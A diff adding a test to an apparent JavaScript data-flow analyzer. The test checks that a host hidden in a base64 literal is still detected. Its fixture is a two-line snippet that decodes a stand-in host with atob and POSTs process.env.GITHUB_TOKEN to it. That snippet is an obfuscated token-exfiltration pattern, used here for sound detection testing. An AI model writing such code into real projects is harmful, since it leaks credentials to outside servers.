@@ -145,3 +145,9 @@ def test_a_file_is_parsed_once_per_process_and_each_analysis_keeps_its_own_budge
     assert second.root.id == first.root.id and second.nodes == 0 and second.cut == []
     parse(src, "src/a.ts", "typescript")  # another grammar: another tree
     assert js_parse.PARSES["parsed"] == before["parsed"] + 2
+
+
+def test_a_host_decoded_from_a_literal_is_carried_by_the_decoder_call() -> None:
+    ((_, flow),) = _flows('const sink = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2lu");\n'
+                          'fetch(sink, { method: "POST", body: process.env.GITHUB_TOKEN });\n')
+    assert Carrier("host", "collect.example.net", "sink", "src/send.ts", 1) in flow.carriers
